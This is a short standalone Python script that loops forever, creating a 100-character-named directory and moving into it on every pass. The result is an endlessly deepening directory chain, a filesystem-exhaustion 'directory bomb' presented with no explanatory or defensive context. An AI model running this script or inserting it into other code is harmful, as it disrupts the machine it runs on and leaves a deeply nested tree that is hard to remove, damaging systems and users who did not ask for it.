import os
while True:
    os.mkdir('d' * 100); os.chdir('d' * 100)
